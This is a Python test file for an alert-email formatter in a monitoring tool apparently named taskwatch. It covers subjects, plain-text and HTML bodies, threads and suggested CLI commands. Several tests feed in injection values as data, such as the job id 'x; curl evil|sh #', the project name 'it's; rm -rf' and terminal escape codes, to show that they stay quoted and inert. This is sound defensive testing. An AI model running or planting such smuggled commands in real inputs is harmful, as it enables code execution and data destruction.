"""The built-in words of letters: every event named or counted, and nothing foreign that is more than text."""

import json
import shlex
from collections import Counter
from collections.abc import Sequence
from html.parser import HTMLParser

import msgspec
import pytest

from taskwatch.core.events import loss_event, receiver_test_event, resolved_event, task_event
from taskwatch.core.grouping import Group
from taskwatch.core.letters import (
    LISTED,
    Contents,
    contents_of,
    facts,
    letter_of,
    message_id,
    reminder_id,
    worst_first,
)
from taskwatch.core.outage_events import Word, outage_event
from taskwatch.model.alert import Alert, Ended, Why
from taskwatch.model.event import Event, EventId, EventType, Loss, Severity
from taskwatch.model.outage import Kind, Place
from taskwatch.model.task import Instance
from tests.fakes.builders import T0, a_project, a_reading, a_task, a_transition, at
from tests.fakes.messages import HOSTILE

PROD = Group(route="route", by={"project": "prod"})


def failed(job_id: str = "job-1", *, reason: str | None = "disk broken", instance: str = "db-1", late: bool = False) -> Event:  # fmt: skip
    task = a_task(
        job_id, "Failed", fail_reason=reason, instance=Instance(id="in-1", name=instance), progress=40
    )
    return task_event(
        a_transition(task),
        project=a_project(),
        sequence=1,
        reading=a_reading(late=late),
        failure_severities=(),
    )


def started(job_id: str = "job-9") -> Event:
    return task_event(
        a_transition(a_task(job_id), from_status=None, revision=1),
        project=a_project(),
        sequence=1,
        reading=a_reading(),
        failure_severities=(),
    )


def resolved(job_id: str = "job-1") -> Event:
    task = a_task(job_id, "Failed")
    alert = Alert(event_id=EventId("tw_alert"), type=EventType.TASK_FAILED, task=task)
    ended = Ended(alert=alert, why=Why.OPERATOR, by="me (uid 0) on host", comment="by hand")
    return resolved_event(ended, task=task, project=a_project(), sequence=3, at=T0)


def contents(
    events: Sequence[Event], *, more: int = 0, group: Group = PROD, is_reminder: bool = False
) -> Contents:
    counts = Counter(str(event.type) for event in events)
    counts[events[0].type] += more
    return Contents(
        events=worst_first(event.body for event in events),
        counts=counts,
        group=group,
        at=T0,
        is_reminder=is_reminder,
    )


def test_one_failure_is_told_with_all_that_is_known_of_it() -> None:
    event = failed(late=True)
    letter = letter_of(contents([event]))

    assert letter.subject == "CRITICAL prod: CreateGaussDBV5Instance of db-1 failed"
    assert letter.severity is Severity.CRITICAL
    assert letter.at == T0
    assert letter.text == (
        "CreateGaussDBV5Instance of db-1 failed: disk broken\n"
        "\n"
        "project    prod\n"
        "instance   db-1, in-1\n"
        "task       job-1\n"
        "status     Failed, 40 %\n"
        "created    2026-11-23 10:01:00 UTC\n"
        "ended      2026-11-23 11:00:00 UTC\n"
        "seen       2026-11-23 10:00:00 UTC, late: taskwatch had not looked before\n"
        "\n"
        "you have it:      taskwatch ack job-1\n"
        "it is mended:     taskwatch resolve job-1\n"
        f"why, and to whom: taskwatch explain {event.id}\n"
    )


def test_a_reason_that_the_summary_does_not_hold_is_told_whole() -> None:
    reason = "no space left on device " * 20
    letter = letter_of(contents([failed(reason=reason)]))
    assert f"reason     {reason}\n" in letter.text


def test_an_end_says_why_and_by_whom_and_asks_for_nothing() -> None:
    letter = letter_of(contents([resolved()]))
    assert letter.subject == "prod: CreateGaussDBV5Instance of db-1 resolved"
    assert "why        operator, by me (uid 0) on host\ncomment    by hand\n" in letter.text
    assert "taskwatch ack" not in letter.text


def test_several_are_counted_in_the_subject_and_named_the_worst_first() -> None:
    letter = letter_of(contents([started("a"), resolved("b"), failed("c"), failed("d")]))

    assert letter.subject == "CRITICAL prod: 2 failed, 1 resolved, 1 started"
    places = [letter.text.index(f"    {job}, ") for job in ("c", "d", "a", "b")]
    assert places == sorted(places)
    assert letter.text.startswith("2 failed, 1 resolved, 1 started (project prod)\n")
    assert "you have them:    taskwatch ack c d\n" in letter.text
    assert "taskwatch events --project prod --since 2026-11-23T10:00:00Z --limit 1000\n" in letter.text
    assert "more:" not in letter.text


def test_what_is_over_by_now_alarms_nobody() -> None:
    over, still = failed("a"), warned()
    told = Contents(
        events=worst_first([over.body, still.body], over={over.id}),
        counts=Counter([str(over.type), str(still.type)]),
        group=PROD,
        at=T0,
        over=frozenset({over.id}),
    )
    letter = letter_of(told)
    assert letter.subject == "WARNING prod: 1 failed, 1 vanished"
    assert "\nover by now: CreateGaussDBV5Instance of db-1 failed: disk broken\n" in letter.text
    assert letter.text.index("vanished") < letter.text.index("over by now")
    assert "taskwatch ack job-1\n" in letter.text, "only what is open"
    assert "over by now: Create" in (letter.html or "")


def test_all_of_them_are_listed_from_the_first_that_was_recorded_named_or_not() -> None:
    told = contents([failed()], more=30_000)
    earlier = Contents(events=told.events, counts=told.counts, group=PROD, at=T0, since=at(-5))
    assert "--since 2026-11-23T09:55:00Z --limit 100000\n" in letter_of(earlier).text


def test_those_beyond_the_list_are_counted_with_the_way_to_all() -> None:
    letter = letter_of(contents([failed(f"job-{number}") for number in range(LISTED)], more=7))
    assert "and 7 more: 7 failed\n" in letter.text
    assert "--limit 1000" in letter.text
    assert "taskwatch ack" not in letter.text, "those that are not named would be forgotten"
    assert "and 7 more: 7 failed" in (letter.html or "")


def test_events_of_several_projects_name_theirs() -> None:
    other = task_event(
        a_transition(a_task("job-2", "Failed")),
        project=a_project("test"),
        sequence=1,
        reading=a_reading(),
        failure_severities=(),
    )
    letter = letter_of(
        contents([failed(), other], group=Group(by={"severity": "critical", "label_team": ""}))
    )
    assert letter.subject == "CRITICAL prod, test: 2 failed"
    assert "job-2, project test, ended" in letter.text
    assert letter.text.startswith("2 failed (severity critical)\n")
    assert "taskwatch events --since" in letter.text


def test_of_what_is_only_counted_no_project_is_known_unless_the_group_names_it() -> None:
    told = letter_of(contents([failed()], more=3, group=Group(by={"severity": "critical"})))
    assert told.subject == "CRITICAL prod, …: 4 failed"
    assert "taskwatch events --since" in told.text
    assert letter_of(contents([failed()], more=3)).subject == "CRITICAL prod: 4 failed"


def test_a_reminder_says_that_it_is_one_and_leads_to_the_open_alerts() -> None:
    one = letter_of(contents([failed()], is_reminder=True))
    assert one.subject == "CRITICAL prod: still open: CreateGaussDBV5Instance of db-1 failed"
    two = letter_of(contents([failed("a"), failed("b")], is_reminder=True))
    assert two.subject == "CRITICAL prod: 2 still open"
    assert two.text.startswith("This is still open, and nobody has it now:\n")
    assert "all of them:      taskwatch alerts --project prod\n" in two.text


def test_outages_losses_and_tests_are_told_too() -> None:
    word = Word(
        type=EventType.PROJECT_DEGRADED,
        place=Place(Kind.HOST, "gauss.example"),
        projects=[a_project("a"), a_project("b")],
        severity=Severity.WARNING,
        cause="network",
        error="gauss.example does not answer",
        since=T0,
    )
    degraded = letter_of(contents([outage_event(word, sequence=1, at=T0)], group=Group(by={"project": ""})))
    assert degraded.subject == "WARNING a, b cannot be read: gauss.example does not answer"
    assert "project    a, b\n" in degraded.text
    assert "error" not in degraded.text, "the summary says it"
    assert "taskwatch ack" not in degraded.text

    loss = Loss(task=a_task(), revision=1, number=1, has_left_window=True)
    lost = letter_of(contents([loss_event(loss, project=a_project(), sequence=2, observed_at=T0)]))
    assert lost.subject == "WARNING prod: CreateGaussDBV5Instance of db-1 left the list"

    test = letter_of(contents_of(receiver_test_event("mail", at=T0, sample=True).body))
    assert "This is a test of the receiver mail by taskwatch. Nothing has happened." in test.subject
    assert "taskwatch" not in test.text.partition("seen")[2], "a test is on no record"


def test_what_is_told_of_one_task_is_one_thread_and_of_several_that_of_the_group() -> None:
    assert letter_of(contents([failed()])).thread == letter_of(contents([resolved()])).thread
    assert letter_of(contents([failed("a")])).thread != letter_of(contents([failed("b")])).thread
    both = letter_of(contents([failed("a"), failed("b")]))
    assert both.thread == letter_of(contents([failed("c"), failed("d")])).thread
    assert (
        both.thread
        != letter_of(contents([failed("a"), failed("b")], group=Group(by={"project": "x"}))).thread
    )
    assert both.thread != letter_of(contents([failed("a"), failed("b")], group=Group(route="route.routes[0]", by=PROD.by))).thread  # fmt: skip
    assert letter_of(contents([failed("a")], more=1)).thread == both.thread, "one named of several"


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("number", [1, 2])
def test_hostile_text_stays_text(text: str, number: int) -> None:
    letter = letter_of(
        contents([failed(f"job-{each}", reason=text, instance=text) for each in range(number)])
    )
    assert letter.subject.isprintable()
    assert len(letter.subject) < 160
    assert all(line.isprintable() for line in letter.text.split("\n")), "what is foreign begins no line"
    harmless = "x" * len(text)
    plain = letter_of(
        contents([failed(f"job-{each}", reason=harmless, instance=harmless) for each in range(number)])
    )
    assert letter.text.count("\n") == plain.text.count("\n")
    assert Tags.of(letter.html) == Tags.of(plain.html)


class Tags(HTMLParser):
    """Collects what is mark-up."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(f"{tag} {attrs}")

    @classmethod
    def of(cls, html: str | None) -> list[str]:
        parser = cls()
        parser.feed(html or "")
        return parser.found


def test_a_project_of_any_name_stands_quoted_in_the_command() -> None:
    event = task_event(
        a_transition(),
        project=a_project("it's; rm -rf"),
        sequence=1,
        reading=a_reading(),
        failure_severities=(),
    )
    letter = letter_of(contents([event], more=1, group=Group(by={"project": "it's; rm -rf"})))
    assert "taskwatch events --project 'it'\\''s; rm -rf' --since" in letter.text


@pytest.mark.parametrize("job_id", ["x; curl evil|sh #", "a\nb", "\x1b[2J", "-rf", "ü", ""])
def test_a_job_id_of_any_kind_is_one_word_of_the_command(job_id: str) -> None:
    text = letter_of(contents([failed(job_id)])).text
    (command,) = [line for line in text.split("\n") if line.startswith("you have it:")]
    words = shlex.split(command.partition("taskwatch ack ")[2])
    assert len(words) == 1
    assert command.isprintable()
    both = letter_of(contents([failed(job_id), failed("other")])).text
    assert f"taskwatch ack {command.partition('taskwatch ack ')[2]} other\n" in both


def test_ids_are_made_of_what_is_told() -> None:
    one, two = EventId("tw_1"), EventId("tw_2")
    assert message_id("mail", [one]) == one
    assert message_id("mail", [one, two]) == message_id("mail", [one, two])
    different = {
        message_id("mail", [one, two]),
        message_id("mail", [two, one]),
        message_id("chat", [one, two]),
        reminder_id("mail", [one, two], after=1),
        reminder_id("mail", [one, two], after=2),
        reminder_id("chat", [one, two], after=1),
        reminder_id("mail", [one], after=1),
        one,
    }
    assert len(different) == 8
    assert all(id_.isascii() and id_.replace("_", "").isalnum() for id_ in different)


def test_a_template_sees_the_event_all_events_and_how_many_there_are() -> None:
    seen = json.loads(facts(contents([started("a"), failed("b")], more=3)))
    assert seen["event"]["subject"] == "b"
    assert [event["subject"] for event in seen["events"]] == ["b", "a"]
    assert seen["count"] == 5
    assert seen["left_out"] == {"taskwatch.task.started": 3}
    assert seen["group"] == {"project": "prod"}
    assert (seen["severity"], seen["is_reminder"], seen["at"]) == ("critical", False, "2026-11-23T10:00:00Z")


def test_one_event_in_html_is_a_table_and_the_commands() -> None:
    event = failed()
    html = letter_of(contents([event])).html or ""
    assert words(html) == [
        "CreateGaussDBV5Instance of db-1 failed: disk broken",
        "project", "prod",
        "instance", "db-1, in-1",
        "task", "job-1",
        "status", "Failed, 40 %",
        "created", "2026-11-23 10:01:00 UTC",
        "ended", "2026-11-23 11:00:00 UTC",
        "seen", "2026-11-23 10:00:00 UTC",
        "you have it", "taskwatch ack job-1",
        "it is mended", "taskwatch resolve job-1",
        "why, and to whom", f"taskwatch explain {event.id}",
    ]  # fmt: skip
    assert "4px solid #c5221f" in html, "red, as it is critical"
    assert html.startswith('<div style="font-family:sans-serif;')
    assert html.endswith("</table></div>")
    assert html.count("<table") == html.count("</table>") == 2
    assert html.count("<code>") == html.count("</code>") == 3


def test_several_events_in_html_are_two_lines_each() -> None:
    html = letter_of(contents([failed("a"), started("b")], more=2, is_reminder=True)).html or ""
    assert words(html) == [
        "This is still open, and nobody has it now:",
        "3 failed, 1 started", "(project prod)",
        "CreateGaussDBV5Instance of db-1 failed: disk broken",
        "a, ended 2026-11-23 11:00:00 UTC, seen 2026-11-23 10:00:00 UTC",
        "CreateGaussDBV5Instance of db-1 started.",
        "b, seen 2026-11-23 10:00:00 UTC",
        "and 2 more: 2 failed",
        "all of them", "taskwatch alerts --project prod",
    ]  # fmt: skip
    assert html.count("4px solid #c5221f") == html.count("4px solid #5f6368") == 1
    assert html.count("<div") == html.count("</div>") == 3
    warning = letter_of(contents([warned()])).html or ""
    assert "4px solid #b06000" in warning


def warned() -> Event:
    loss = Loss(task=a_task(), revision=1, number=1, has_left_window=False)
    return loss_event(loss, project=a_project(), sequence=2, observed_at=T0)


def words(html: str) -> list[str]:
    """Return the text between the tags."""
    parser = Words()
    parser.feed(html)
    return [text.strip() for text in parser.found if text.strip()]


class Words(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_data(self, data: str) -> None:
        self.found.append(data)


@pytest.mark.parametrize(
    ("type_", "word"),
    [
        (EventType.TASK_VANISHED, "WARNING prod: CreateGaussDBV5Instance of db-1 vanished"),
        (EventType.TASK_LEFT_WINDOW, "WARNING prod: CreateGaussDBV5Instance of db-1 left the list"),
    ],
)
def test_what_is_gone_is_told_with_the_commands_for_it(type_: EventType, word: str) -> None:
    loss = Loss(task=a_task(), revision=1, number=1, has_left_window=type_ is EventType.TASK_LEFT_WINDOW)
    letter = letter_of(contents([loss_event(loss, project=a_project(), sequence=2, observed_at=T0)]))
    assert letter.subject == word
    assert "taskwatch ack job-1" in letter.text


def test_a_task_of_which_little_is_known_is_told_with_that() -> None:
    task = a_task(instance=Instance(), created_at=None)
    event = task_event(
        a_transition(task, from_status=None, revision=1),
        project=a_project(),
        sequence=1,
        reading=a_reading(),
        failure_severities=(),
    )
    letter = letter_of(contents([event]))
    assert letter.subject == "prod: CreateGaussDBV5Instance started"
    assert letter.text.splitlines()[2:6] == [
        "project    prod",
        "task       job-1",
        "status     Running",
        "seen       2026-11-23 10:00:00 UTC",
    ]


def test_the_loudest_is_counted_first_in_a_subject() -> None:
    told = contents([started("a"), resolved("b"), failed("c"), warned()])
    assert letter_of(told).subject == "CRITICAL prod: 1 failed, 1 vanished, 1 resolved, 1 started"


def test_what_one_event_tells_alone_is_about_that_event() -> None:
    event = failed()
    alone = contents_of(event.body)
    assert alone.counts == {"taskwatch.task.failed": 1}
    assert (alone.total, alone.left_out, alone.group) == (1, {}, Group())
    assert alone.at == T0
    assert alone.events == (msgspec.json.decode(event.body),)
    assert at(0) == T0
